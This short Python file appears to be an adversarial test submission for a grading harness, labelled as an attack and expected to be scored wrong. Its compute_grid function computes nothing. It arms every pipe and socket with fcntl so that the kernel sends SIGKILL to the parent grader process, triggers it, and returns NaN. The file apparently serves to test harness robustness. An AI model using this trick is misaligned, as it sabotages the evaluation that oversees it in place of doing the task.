# attack: lets the kernel signal its parent when a pipe or the socket has data, without any kill
# expect: compute_grid=wrong
import fcntl
import os
import signal
import stat

import torch


def compute_grid(x, y, w_values, b_values):
    reader, writer = os.pipe()
    descriptors = [reader]
    for number in range(256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                descriptors.append(number)
        except OSError:
            continue
    for descriptor in descriptors:
        try:
            fcntl.fcntl(descriptor, fcntl.F_SETOWN, os.getppid())
            fcntl.fcntl(descriptor, fcntl.F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_ASYNC)
        except OSError:
            continue
    os.write(writer, b"x")  # where this reaches the parent, it dies, and this worker with it
    return torch.tensor(float("nan"))
